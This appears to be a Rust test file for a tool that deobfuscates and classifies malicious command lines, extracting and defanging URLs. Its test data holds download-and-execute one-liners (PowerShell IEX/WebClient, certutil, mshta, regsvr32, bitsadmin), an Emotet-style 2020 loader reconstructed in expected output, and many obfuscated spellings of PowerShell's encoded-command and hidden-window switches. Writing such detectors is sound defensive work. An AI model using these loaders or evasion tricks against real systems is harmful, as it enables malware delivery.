//! Command lines and stand-alone scripts.

use super::*;
use expect_test::expect;

#[track_caller]
fn check_command(text: &str, expected: Expect) {
    let parsed = read_command(text, &Limits::desk());
    assert_eq!(parsed.problems, []);
    let script = url::defang_text(&parsed.value.script);
    expected.assert_eq(&format!("{}{script}\n", describe_command(&parsed.value)));
}

/// The script must come out of every spelling of the switch.
#[track_caller]
fn check_switch(before: &str, hidden: bool) {
    let script = "iwr http://a.example/x -o x.exe";
    let command = read_command(&format!("{before}{}", utf16_base64(script)), &Limits::desk()).value;
    assert_eq!(command.script, script, "{before}");
    assert_eq!(command.hidden, hidden, "{before}");
    assert_eq!(command.interpreter, Interpreter::PowerShell, "{before}");
    assert!(command.fetches, "{before}");
}

#[test]
fn knows_every_spelling_of_the_encoded_command() {
    for switch in
        ["-e", "-E", "-ec", "-en", "-enc", "-ENCOD", "-EncodedCommand", "/e", "–enc", "—e", "―en", "-e`n^c"]
    {
        check_switch(&format!("powershell {switch} "), false);
    }
    check_switch("powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ", true);
    check_switch(
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -w 1 -ep bypass -e ",
        true,
    );
    check_switch("pwsh -windowstyle hid -ex bypass -v 2 -en ", true);
    check_switch("p^o^w^e^r^s^h^e^l^l -w normal -e ", false);
    check_switch("cmd /c start /min pOwErShElL -wi hidd -e ", true);
    check_switch("%COMSPEC% /c powershell -noexit -e ", false);
}

#[test]
fn encoded_values_may_be_quoted_or_broken_over_lines() {
    let value = utf16_base64("iwr http://a.example/long/enough/to/break -o x.exe");
    let (front, back) = value.split_at(64);
    for text in [
        format!("powershell -e \"{value}\""),
        format!("powershell -e '{value}'"),
        format!("powershell -e {front} {back}"),
        format!("powershell -e {front}\r\n  {back}\r\n"),
        format!("powershell -e {value} & del x"),
    ] {
        let command = read_command(&text, &Limits::desk()).value;
        assert_eq!(command.script, "iwr http://a.example/long/enough/to/break -o x.exe", "{text}");
    }
}

#[test]
fn the_shape_of_december_2020() {
    check_command(
        &fixture(include_str!("../fixtures/emotet-2020-12-command.b64")),
        expect![[r#"
        text PowerShell hidden fetches executes [caret escapes, -EncodedCommand, base64 UTF-16LE, backticks, concatenation, substring, cast, index, replace, character codes, split]
          hxxps://one[.]example/a/
          hxxps://two[.]example/b/
          hxxp://three[.]invalid/c/
          hxxps://four[.]example/d/
          SeT-iTEM 'VARIABLE:qL' ( [TYPe]('io.directory')); $Xw7='Ab_1';$Ll=$env:USERPROFILE;$Ws='N42E';$Vb='hxxps://one[.]example/a/','hxxps://two[.]example/b/','hxxp://three[.]invalid/c/','hxxps://four[.]example/d/';foreach ($U in $Vb){try{(.'New-Object' sysTEM.nEt.webCLiENT)."DOwnloADFILE"($U, $Ll);If ((Get-Item $Ll).length -ge 40000) {&'rundll32' $Ll,'Control_RunDLL';break}}catch{}}
    "#]],
    );
}

#[test]
fn packed_streams() {
    check_command(
        &fixture(include_str!("../fixtures/gzip-stream.b64")),
        expect![[r#"
        text PowerShell hidden fetches executes [-EncodedCommand, base64 UTF-16LE, base64 UTF-8, gzip]
          hxxp://a[.]example/s.ps1
        IEX (New-Object Net.WebClient).DownloadString('hxxp://a[.]example/s.ps1')
    "#]],
    );
    check_command(
        &fixture(include_str!("../fixtures/deflate-stream.b64")),
        expect![[r#"
        text PowerShell fetches executes [base64 UTF-8, deflate]
          hxxp://a[.]example/s.ps1
        IEX (New-Object Net.WebClient).DownloadString('hxxp://a[.]example/s.ps1')
    "#]],
    );
}

/// One expression, folded.
#[track_caller]
fn check_fold(script: &str, expected: &str) {
    assert_eq!(read_command(script, &Limits::desk()).value.script, expected);
}

#[test]
fn folds_constant_expressions() {
    check_fold("iex ('a'+'b'+\"c\")", "abc");
    check_fold("('wr'+'ite ''a'''); iex 'b'", "'write ''a'''; iex 'b'");
    check_fold("('wr'+'ite ''a''') | iEx", "write 'a'");
    check_fold("$x=('{2}{0}{1}' -f 'b','c','a')", "$x='abc'");
    check_fold("'aXbX'.Replace('X','/')", "'a/b/'");
    check_fold("('a-b' -replace '-','.')", "'a.b'");
    check_fold("('a.b*c' -split '[.*]')", "'a','b','c'");
    check_fold("'a*b'.Split([char]42)", "'a','b'");
    check_fold("-join ('a','b')", "'ab'");
    check_fold("('olleh'[-1..-5] -join '')", "'hello'");
    check_fold("[string]::Join('',('a','b'))", "'ab'");
    check_fold("-join [char[]](72,105)", "'Hi'");
    check_fold("$a='ht';$b='tp';$c=$a+$b+'://x.example/'", "$a='ht';$b='tp';$c='http://x.example/'");
    check_fold("$a='x';$a+='y';iex ($a+'z')", "$a='x';$a+='y';iex 'xyz'");
    check_fold("\"a$([char]66)\"", "'aB'");
    check_fold("$x='b';\"a$x$\"", "$x='b';'ab$'");
    check_fold("\"a$unknown\"", "\"a$unknown\"");
    check_fold("Get-Chi`ldIt`em", "Get-ChildItem");
    check_fold("'it''s'", "'it''s'");
    check_fold("$x = $unknown + 'a'", "$x = $unknown + 'a'");
    check_fold("write-host \"half", "write-host \"half");
}

#[test]
fn cmd_variables_and_parts_of_them() {
    check_command(
        "cmd /v:on /c \"set a=po&set b=wershell&call %a%%b% iwr http://a.example/\"",
        expect![[r#"
        text PowerShell fetches [cmd variables]
          hxxp://a[.]example/
        iwr hxxp://a[.]example/
    "#]],
    );
    check_command(
        "cmd /c %COMSPEC:~-7,1%ertutil -urlcache -f http://a.example/a.txt a.exe & start a.exe",
        expect![[r#"
        text Cmd fetches executes [cmd variables]
          hxxp://a[.]example/a.txt
        cmd /c certutil -urlcache -f hxxp://a[.]example/a.txt a.exe & start a.exe
    "#]],
    );
}

#[test]
fn other_programs() {
    check_command(
        "mshta http://0xb907d607/fer/fer.html",
        expect![[r#"
        text SystemBinary fetches executes []
          hxxp://0xb907d607/fer/fer.html
        mshta hxxp://0xb907d607/fer/fer.html
    "#]],
    );
    check_command(
        "C:\\Windows\\System32\\regsvr32.exe /s /u /i:http://a.example/x.sct scrobj.dll",
        expect![[r#"
        text SystemBinary fetches executes []
          hxxp://a[.]example/x.sct
        C:\Windows\System32\regsvr32.exe /s /u /i:hxxp://a[.]example/x.sct scrobj.dll
    "#]],
    );
    check_command(
        "bitsadmin /transfer j http://a.example/x %TEMP%\\x.exe",
        expect![[r#"
        text SystemBinary fetches []
          hxxp://a[.]example/x
        bitsadmin /transfer j hxxp://a[.]example/x %TEMP%\x.exe
    "#]],
    );
    check_command(
        "calc.exe",
        expect![[r#"
        text Other []
        calc.exe
    "#]],
    );
    check_command(
        "",
        expect![[r#"
        text Other []

    "#]],
    );
}

#[test]
fn scripts_that_stand_alone() {
    let batch =
        "@echo off\r\nrem cmd is fun\r\npowershell -c \"iwr http://a.example/x -o x.exe\"\r\nstart x.exe\r\n";
    let javascript = "var u = ['http:\\/\\/a.example\\/1', 'http:\\/\\/b.example\\/2'];";
    let powershell = "$u=('ht'+'tp://a.example/');iex (New-Object Net.WebClient).DownloadString($u)";
    let mut out = String::new();
    for text in [batch, javascript, powershell, "Hello, world."] {
        let parsed = survey_text(text, &Limits::desk());
        assert_eq!(parsed.problems, []);
        out.push_str("--\n");
        out.push_str(&describe(&parsed.value));
    }
    expect![[r#"
        --
        command text:3 PowerShell fetches []
          hxxp://a[.]example/x
        --
        urls
          hxxp://a[.]example/1
          hxxp://b[.]example/2
        --
        command text PowerShell fetches executes [concatenation, variables]
          hxxp://a[.]example/
        --
    "#]]
    .assert_eq(&out);
}
